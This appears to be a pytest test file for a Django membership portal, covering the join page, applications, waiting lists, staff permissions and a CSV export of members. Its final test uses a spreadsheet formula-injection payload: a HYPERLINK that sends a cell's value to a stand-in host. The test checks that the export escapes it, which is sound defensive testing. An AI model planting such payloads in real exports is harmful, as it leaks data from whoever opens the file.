"""The join page, the application form, the waiting list, the staff CSV export and My account."""

import csv
import io

import pytest
from django.test import Client

from members import services
from members.models import Membership, TierWaitlistEntry
from tests.accounts.factories import UserFactory
from tests.members.factories import MembershipFactory, MembershipTierFactory, application
from tests.portal.factories import join_page

pytestmark = pytest.mark.django_db


def test_the_join_page_offers_apply_and_a_waiting_list_for_a_full_tier(site_with_home):
    join_page(site_with_home)
    platinum = MembershipTierFactory(name="Platinum", slug="platinum", seat_limit=1)
    MembershipTierFactory(name="Silver", slug="silver")
    MembershipTierFactory(name="Founding", slug="founding", is_public=False)
    MembershipFactory(tier=platinum, status=Membership.Status.APPROVED)  # an approved member holds the seat
    html = Client().get("/join/").content.decode()
    assert "/join/waitlist/platinum/" in html and "Full" in html
    assert "/join/apply/?tier=platinum" not in html
    assert "/join/apply/?tier=silver" in html
    assert "Founding" not in html
    assert '0</span> <span class="stat__label">member organisations today' in html  # approved is not yet shown


def test_the_application_form_needs_a_signed_in_person():
    response = Client().get("/join/apply/")
    assert response.status_code == 302 and response.url.startswith("/accounts/login/?next=/join/apply/")


def test_the_application_form_needs_the_agreement():
    client = Client()
    client.force_login(UserFactory())
    tier = MembershipTierFactory()
    response = client.post("/join/apply/", {"requested_tier": tier.pk, "organization_name": "Acme"})
    assert response.status_code == 400
    assert "This field is required." in response.content.decode()


def test_joining_a_waiting_list():
    tier = MembershipTierFactory(name="Platinum", slug="platinum", seat_limit=0)
    client = Client()
    assert client.get("/join/waitlist/platinum/").status_code == 200
    response = client.post("/join/waitlist/platinum/", {"email": "ada@acme.example", "organization_name": "Acme"})
    assert response.status_code == 302
    assert TierWaitlistEntry.objects.get(tier=tier).organization_name == "Acme"


def test_staff_export_the_current_members_as_csv(membership_staff, django_assert_max_num_queries, staff_client_factory):
    gold = MembershipTierFactory(name="Gold")
    for n in range(3):
        MembershipFactory(tier=gold, organization__name=f"Member {n}")
    MembershipFactory(tier=gold, organization__name="Gone", status=Membership.Status.LAPSED)
    services.application_approve(application=application(tier=gold, name="Fresh Co"), actor=None)
    client = staff_client_factory(user=membership_staff, client=Client())
    client.get("/admin/")
    with django_assert_max_num_queries(12):
        response = client.get("/admin/members/export.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["organization"] for row in rows] == ["Fresh Co", "Member 0", "Member 1", "Member 2"]
    assert rows[0]["status"] == "Approved, awaiting dues" and rows[0]["dues_paid_until"] == ""


def test_people_outside_membership_staff_cannot_export_or_approve(staff_groups):
    submitted = application()
    client = Client()
    client.force_login(UserFactory(is_staff=True, groups=["Events staff"]))
    assert client.get("/admin/members/export.csv").status_code in (302, 403)
    client.post(f"/admin/members/applications/{submitted.pk}/approve/")
    submitted.refresh_from_db()
    assert submitted.status == "submitted"


def test_the_admin_queue_shows_a_seat_refusal_as_a_message(membership_staff, staff_client_factory):
    platinum = MembershipTierFactory(name="Platinum", seat_limit=1)
    first, second = application(tier=platinum, name="First"), application(tier=platinum, name="Second")
    client = staff_client_factory(user=membership_staff, client=Client())
    client.post(f"/admin/members/applications/{first.pk}/approve/")
    response = client.post(f"/admin/members/applications/{second.pk}/approve/", follow=True)
    assert "The Platinum tier is full: all 1 seat" in response.content.decode()


def test_the_staff_export_writes_a_company_name_formula_as_text(membership_staff, staff_client_factory):
    evil = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
    MembershipFactory(tier=MembershipTierFactory(name="Gold"), organization__name=evil)
    client = staff_client_factory(user=membership_staff, client=Client())
    rows = list(csv.DictReader(io.StringIO(client.get("/admin/members/export.csv").content.decode())))
    assert [row["organization"] for row in rows] == ["'" + evil]
